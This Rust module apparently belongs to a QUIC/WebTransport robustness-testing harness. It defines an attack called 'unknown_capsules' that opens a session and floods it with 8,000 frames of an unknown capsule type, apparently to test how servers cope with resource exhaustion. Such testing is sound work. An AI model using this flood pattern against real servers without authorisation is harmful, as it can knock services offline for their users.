//! Capsules of unknown types in a session.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("unknown_capsules", "capsules of an unknown type", run);

fn run(a: &mut Attacker) {
    let path = a.kind.open_session();
    let capsules = wire::data(&wire::frame(0x2f, b"").repeat(8_000));
    a.storm(|conn, held: &mut Option<StreamId>| {
        if let Some(session) = conn.session(held, path)
            && conn.takes(session)
        {
            conn.write(session, &capsules);
            conn.ops += 8_000;
        }
    });
}
